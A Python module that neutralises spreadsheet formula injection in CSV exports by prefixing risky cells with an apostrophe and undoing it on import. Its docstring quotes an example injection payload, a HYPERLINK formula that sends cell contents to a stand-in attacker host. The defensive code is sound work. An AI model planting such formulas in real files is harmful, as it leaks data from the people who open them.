"""Spreadsheet formula injection (CSV injection): neutralise cells a spreadsheet would run.

OWASP's rule: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets, so an exported listing title such as
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would run on a moderator's machine. Such a cell
is written with a leading apostrophe (which spreadsheets show as text and hide), and the CSV writer
quotes the rest. `restore` undoes exactly that on import, so importing our own export gives back
the original text. A value that really begins with an apostrophe before one of those characters
gets a second apostrophe, so the round trip is exact for every string.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def _is_guarded(value: str) -> bool:
    return value.lstrip(GUARD).startswith(FORMULA_STARTS)


def neutralise(value):
    """The cell value to write: strings a spreadsheet would run get a leading apostrophe."""
    if isinstance(value, str) and value and (value.startswith(FORMULA_STARTS) or _is_guarded(value)):
        return GUARD + value
    return value


def restore(value):
    """The original text of a cell `neutralise` wrote (other cells unchanged)."""
    if isinstance(value, str) and value.startswith(GUARD) and _is_guarded(value):
        return value[1:]
    return value
